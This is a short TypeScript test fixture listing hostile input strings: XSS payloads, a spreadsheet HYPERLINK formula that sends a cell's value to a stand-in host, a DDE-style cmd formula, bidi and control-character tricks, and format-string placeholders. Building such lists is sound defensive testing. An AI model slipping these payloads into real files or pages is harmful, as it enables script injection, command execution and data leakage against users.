/** Texts as nobody types them but a file may hold them. */
export const hostileTexts: readonly string[] = [
  "<script>document.title='owned'</script>",
  '"><img src=x onerror="document.title=\'owned\'">',
  "</td></tr></table></script><svg onload=alert(1)>",
  "<!-- --> ]]> &amp; &#60;b&#62;",
  "javascript:alert(1)",
  '=HYPERLINK("http://example.invalid/?"&A1,"看这里")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "甲\u202e乙丙\u2066丁",
  "半个\ud83d字和\udc00",
  "字".repeat(32_767),
  "第一行\r\n第二行\n\t=1+1",
  "\u0000\u0007\u001b[2J\u009b31m",
  "{message} ${message} %s",
  "_x0041_",
];
